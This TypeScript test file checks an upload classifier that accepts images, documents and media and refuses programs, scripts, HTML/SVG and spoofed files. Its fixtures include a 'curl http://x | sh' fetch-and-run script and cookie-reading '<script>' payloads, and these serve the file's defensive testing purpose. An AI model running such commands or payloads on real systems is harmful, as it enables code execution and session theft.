import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { Jimp } from 'jimp';
import { allowedTypes, type Classification, classifyFile, refusedName, SNIFF_BYTES } from './file-types.ts';

/** A ZIP of stored (uncompressed) entries, enough for file-type to walk its local headers. */
function zip(entries: Array<[string, Buffer | string]>): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [entryName, content] of entries) {
    const name = Buffer.from(entryName);
    const data = Buffer.from(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    parts.push(local, name, data);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt32LE(crc32(data), 16);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

const contentTypes = (main: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}.main+xml"/></Types>`;
const hex = (h: string) => Buffer.from(h.replace(/\s/g, ''), 'hex');
const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc(200)]);

const fixtures = {
  pdf: Buffer.from(
    '%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n',
    'latin1',
  ),
  exe: pad(Buffer.concat([Buffer.from('MZ'), hex('9000 0300 0000 0400 0000 ffff')])),
  elf: pad(hex('7f454c46 020101 00')),
  macho: pad(hex('cffaedfe 07000001')),
  cfb: pad(hex('d0cf11e0a1b11ae1')),
  tiff: pad(hex('49492a00 08000000')),
  mp4: pad(Buffer.concat([hex('00000018'), Buffer.from('ftypisom'), hex('00000200'), Buffer.from('isommp42')])),
  webm: pad(hex('1A45DFA3 9F 428681 01 42F781 01 42F281 04 42F381 08 4282 84 7765626D 428781 04 428581 02 18538067')),
  wav: pad(Buffer.concat([Buffer.from('RIFF'), hex('24000000'), Buffer.from('WAVEfmt ')])),
  mp3: pad(Buffer.concat([Buffer.from('ID3'), hex('03 00 00 00000000'), hex('fffb9064')])),
  heic: pad(Buffer.concat([hex('00000018'), Buffer.from('ftypheic'), hex('00000000'), Buffer.from('mif1heic')])),
  webp: pad(Buffer.concat([Buffer.from('RIFF'), hex('30000000'), Buffer.from('WEBPVP8 ')])),
  docx: zip([
    ['[Content_Types].xml', contentTypes('wordprocessingml.document')],
    ['word/document.xml', '<w:document/>'],
  ]),
  xlsx: zip([
    ['[Content_Types].xml', contentTypes('spreadsheetml.sheet')],
    ['xl/workbook.xml', '<workbook/>'],
  ]),
  pptx: zip([
    ['[Content_Types].xml', contentTypes('presentationml.presentation')],
    ['ppt/presentation.xml', '<p/>'],
  ]),
  zip: zip([['logs/app.log', 'started\n']]),
  // A document whose first entries say nothing about its type and outgrow the sample.
  opaqueDocx: zip([
    ['docProps/thumbnail.jpeg', randomBytes(SNIFF_BYTES + 1000)],
    ['[Content_Types].xml', contentTypes('wordprocessingml.document')],
  ]),
  text: Buffer.from('Hello,\r\nthe export failed at 10:42 with code 7.\n\tsee attached log\n'),
  csv: Buffer.from('id,name,amount\n1,Ada,10.50\n2,Grace,7\n'),
  json: Buffer.from('{"ticket": 42, "ok": true}\n'),
};

let images: Record<'png' | 'jpg' | 'gif' | 'bmp', Buffer>;

async function expectOk(head: Buffer, name: string, mime: string | undefined, ext: string) {
  const result = await classifyFile(head.subarray(0, SNIFF_BYTES), { name, mime });
  assert.ok(result.ok, `${name} (${mime}): ${JSON.stringify(result)}`);
  assert.equal(result.kind.ext, ext, name);
  return result.kind;
}

async function expectRefused(
  head: Buffer,
  name: string,
  mime: string | undefined,
  code: 'not_allowed' | 'spoofed' | 'unknown',
  reason: RegExp | string,
) {
  const result: Classification = await classifyFile(head.subarray(0, SNIFF_BYTES), { name, mime });
  assert.ok(!result.ok, `${name} should be refused, got ${JSON.stringify(result)}`);
  assert.equal(result.code, code, `${name}: ${result.reason}`);
  if (typeof reason === 'string') assert.equal(result.reason, reason);
  else assert.match(result.reason, reason);
}

describe('file types from the bytes', () => {
  before(async () => {
    const image = new Jimp({ width: 4, height: 3, color: 0x3366ccff });
    images = {
      png: await image.getBuffer('image/png'),
      jpg: await image.getBuffer('image/jpeg'),
      gif: await image.getBuffer('image/gif'),
      bmp: await image.getBuffer('image/bmp'),
    };
  });

  it('reads at least file-type’s sample size', () => {
    assert.ok(SNIFF_BYTES >= 4100);
  });

  describe('the allow-list', () => {
    it('accepts images, naming the ones served inline and thumbnailed', async () => {
      for (const ext of ['png', 'jpg', 'gif', 'bmp'] as const) {
        const kind = await expectOk(images[ext], `picture.${ext}`, undefined, ext);
        assert.ok(kind.raster && kind.thumbnail, ext);
      }
      const webp = await expectOk(fixtures.webp, 'sticker.webp', 'image/webp', 'webp');
      assert.ok(webp.raster && !webp.thumbnail);
      const heic = await expectOk(fixtures.heic, 'IMG_0001.HEIC', 'image/heic', 'heic');
      assert.ok(!heic.raster && !heic.thumbnail);
    });

    it('accepts documents, archives, audio and video', async () => {
      await expectOk(fixtures.pdf, 'invoice.pdf', 'application/pdf', 'pdf');
      await expectOk(fixtures.docx, 'report.docx', undefined, 'docx');
      await expectOk(fixtures.xlsx, 'numbers.xlsx', undefined, 'xlsx');
      await expectOk(fixtures.pptx, 'deck.pptx', undefined, 'pptx');
      await expectOk(fixtures.zip, 'logs.zip', 'application/x-zip-compressed', 'zip');
      await expectOk(fixtures.mp4, 'screen recording.mp4', 'video/mp4', 'mp4');
      await expectOk(fixtures.webm, 'capture.webm', 'video/webm', 'webm');
      await expectOk(fixtures.wav, 'voicemail.wav', 'audio/x-wav', 'wav');
      await expectOk(fixtures.mp3, 'call.mp3', 'audio/mpeg', 'mp3');
    });

    it('accepts text by its bytes, with its flavour from the name', async () => {
      assert.equal((await expectOk(fixtures.text, 'notes.txt', 'text/plain', 'txt')).mime, 'text/plain');
      assert.equal((await expectOk(fixtures.text, 'server.log', 'text/x-log', 'txt')).mime, 'text/plain');
      assert.equal((await expectOk(fixtures.text, 'README', undefined, 'txt')).mime, 'text/plain');
      assert.equal((await expectOk(fixtures.csv, 'export.csv', 'application/vnd.ms-excel', 'csv')).mime, 'text/csv');
      assert.equal(
        (await expectOk(fixtures.json, 'payload.json', 'application/json', 'json')).mime,
        'application/json',
      );
      await expectOk(Buffer.from('\uFEFFnaïve café ✓ 日本語\n'), 'utf8-bom.txt', undefined, 'txt');
      await expectOk(Buffer.from('\u001b[32mOK\u001b[0m build passed\n'), 'ci.log', undefined, 'txt');
    });

    it('accepts text whose sample ends in the middle of a character', async () => {
      const text = Buffer.from(`${'x'.repeat(SNIFF_BYTES - 2)}✓✓`);
      assert.ok(text.length > SNIFF_BYTES);
      // The sample ends one or two bytes into a three-byte character.
      await expectOk(text.subarray(0, SNIFF_BYTES), 'long.txt', undefined, 'txt');
      await expectOk(text.subarray(0, SNIFF_BYTES + 1), 'long.txt', undefined, 'txt');
    });

    it('lists every kind with a type, an extension and a label; only raster kinds are thumbnailed', () => {
      assert.ok(allowedTypes.length >= 20);
      for (const kind of allowedTypes) {
        assert.match(kind.mime, /^[a-z]+\/[a-z0-9.+-]+$/);
        assert.match(kind.ext, /^[a-z0-9]+$/);
        assert.ok(kind.label.length > 0);
        if (kind.thumbnail) assert.ok(kind.raster, kind.ext);
      }
      assert.deepEqual(
        allowedTypes.filter((k) => k.raster).map((k) => k.ext),
        ['jpg', 'png', 'gif', 'webp', 'bmp'],
      );
      for (const refused of ['svg', 'html', 'xml', 'exe', 'js', 'doc', 'docm'])
        assert.ok(!allowedTypes.some((k) => k.ext === refused), refused);
    });
  });

  describe('programs and scripts', () => {
    it('refuses programs in plain words', async () => {
      await expectRefused(
        fixtures.exe,
        'setup.exe',
        undefined,
        'not_allowed',
        'this looks like a Windows program; not allowed',
      );
      await expectRefused(
        fixtures.exe,
        'setup',
        'application/octet-stream',
        'not_allowed',
        /Windows program; not allowed/,
      );
      await expectRefused(
        fixtures.elf,
        'tool',
        undefined,
        'not_allowed',
        'this looks like a Linux program; not allowed',
      );
      await expectRefused(
        fixtures.macho,
        'tool',
        undefined,
        'not_allowed',
        'this looks like a macOS program; not allowed',
      );
      await expectRefused(fixtures.cfb, 'installer.msi', undefined, 'not_allowed', /Windows installer/);
    });

    it('names both sides when a program wears a document’s name', async () => {
      await expectRefused(
        fixtures.exe,
        'invoice.pdf',
        'application/pdf',
        'spoofed',
        'the name says .pdf but the content is a Windows program; not allowed',
      );
      await expectRefused(fixtures.elf, 'photo.jpg', undefined, 'spoofed', /\.jpg but the content is a Linux program/);
    });

    it('refuses scripts: text starting with #!, and names a desktop runs', async () => {
      const script = Buffer.from('#!/bin/sh\ncurl http://x | sh\n');
      await expectRefused(
        script,
        'fix',
        undefined,
        'not_allowed',
        'this looks like a script (it starts with #!); not allowed',
      );
      await expectRefused(script, 'fix.txt', undefined, 'spoofed', /the name says \.txt but the content is a script/);
      await expectRefused(
        fixtures.text,
        'run.bat',
        undefined,
        'not_allowed',
        'a file named .bat runs as a Windows script; not allowed',
      );
      await expectRefused(
        fixtures.text,
        'helper.js',
        'text/javascript',
        'not_allowed',
        /\.js runs as a Windows script/,
      );
      await expectRefused(images.png, 'photo.exe', undefined, 'not_allowed', /\.exe runs as a Windows program/);
      assert.match(refusedName('setup.EXE')!, /Windows program/);
      assert.match(refusedName('deploy.sh ')!, /Linux or macOS/);
      assert.equal(refusedName('report.pdf'), undefined);
      assert.equal(refusedName('no-extension'), undefined);
    });

    it('refuses macro-carrying and legacy Office files', async () => {
      await expectRefused(fixtures.cfb, 'budget.xls', undefined, 'not_allowed', /old-format Office/);
      await expectRefused(fixtures.docx, 'letter.docm', undefined, 'not_allowed', /Office file with macros/);
    });
  });

  describe('HTML and SVG (never stored: they can run scripts)', () => {
    it('refuses them by content', async () => {
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
      const xmlSvg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>');
      const html = Buffer.from('\n  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
      await expectRefused(
        svg,
        'logo.svg',
        'image/svg+xml',
        'not_allowed',
        /web page or SVG image, which can carry scripts/,
      );
      await expectRefused(xmlSvg, 'logo.svg', undefined, 'not_allowed', /XML or SVG/);
      await expectRefused(html, 'page.html', 'text/html', 'not_allowed', /web page/);
    });

    it('refuses them disguised as text or images', async () => {
      const html = Buffer.from('<html><script>alert(document.cookie)</script></html>');
      await expectRefused(html, 'notes.txt', 'text/plain', 'spoofed', /\.txt but the content is a web page/);
      await expectRefused(html, 'photo.png', 'image/png', 'spoofed', /\.png but the content is a web page/);
    });

    it('refuses them by name even when the content is plain text', async () => {
      await expectRefused(fixtures.text, 'page.html', undefined, 'not_allowed', /\.html opens as a web page/);
      await expectRefused(fixtures.text, 'icon.svg', undefined, 'not_allowed', /\.svg opens as a web page or SVG/);
    });
  });

  describe('spoofing', () => {
    it('refuses an extension that contradicts the bytes, naming both', async () => {
      await expectRefused(
        fixtures.pdf,
        'photo.jpg',
        'image/jpeg',
        'spoofed',
        'the name says .jpg but the content is a PDF document',
      );
      await expectRefused(
        images.png,
        'scan.pdf',
        undefined,
        'spoofed',
        'the name says .pdf but the content is a PNG image',
      );
      await expectRefused(
        fixtures.text,
        'photo.jpg',
        undefined,
        'spoofed',
        'the name says .jpg but the content is a text file',
      );
      await expectRefused(fixtures.zip, 'report.pdf', undefined, 'spoofed', /\.pdf but the content is a ZIP archive/);
    });

    it('refuses a claimed type that contradicts the bytes', async () => {
      await expectRefused(
        images.jpg,
        'photo.jpg',
        'image/png',
        'spoofed',
        'the upload says it is a PNG image (image/png) but the content is a JPEG image',
      );
      await expectRefused(fixtures.pdf, 'doc', 'text/html', 'spoofed', /says it is a web page \(text\/html\)/);
      await expectRefused(fixtures.text, 'notes.txt', 'application/pdf', 'spoofed', /says it is a PDF document/);
    });

    it('ignores what says nothing: no extension, an unknown one, a generic type, case, parameters', async () => {
      await expectOk(images.jpg, 'IMG_2041', 'application/octet-stream', 'jpg');
      await expectOk(images.jpg, 'capture.dat', '', 'jpg');
      await expectOk(images.jpg, 'PHOTO.JPEG', 'Image/JPEG; charset=binary', 'jpg');
      await expectOk(images.jpg, 'photo.jpg', 'image/pjpeg', 'jpg');
    });

    it('does not hold names within the MP4 family against each other', async () => {
      await expectOk(fixtures.mp4, 'voice memo.m4a', 'audio/x-m4a', 'mp4');
      await expectOk(fixtures.mp4, 'clip.mov', 'video/quicktime', 'mp4');
    });

    it('accepts an Office document that reads as a plain ZIP as a ZIP archive', async () => {
      const kind = await expectOk(fixtures.opaqueDocx, 'report.docx', undefined, 'zip');
      assert.equal(kind.mime, 'application/zip');
    });
  });

  describe('unknown and other types', () => {
    it('refuses the empty file, binary noise and NUL-bearing text', async () => {
      await expectRefused(Buffer.alloc(0), 'empty.txt', undefined, 'unknown', 'the file is empty');
      await expectRefused(randomBytes(4096), 'blob.bin', undefined, 'unknown', /could not tell what kind of file/);
      await expectRefused(Buffer.from('a\u0000b\u0000c'), 'a.txt', undefined, 'unknown', /could not tell/);
      // Not UTF-8 (Latin-1 bytes), and text full of control characters.
      await expectRefused(
        Buffer.from('caf\xE9 au lait\n', 'latin1'),
        'menu.txt',
        undefined,
        'unknown',
        /could not tell/,
      );
      await expectRefused(Buffer.from('\u0001\u0002\u0003abc'), 'x.txt', undefined, 'unknown', /could not tell/);
    });

    it('refuses recognised types outside the list, saying what they are', async () => {
      await expectRefused(
        fixtures.tiff,
        'scan.tif',
        'image/tiff',
        'not_allowed',
        'this looks like a .tif file (image/tiff); that type is not allowed',
      );
    });
  });
});
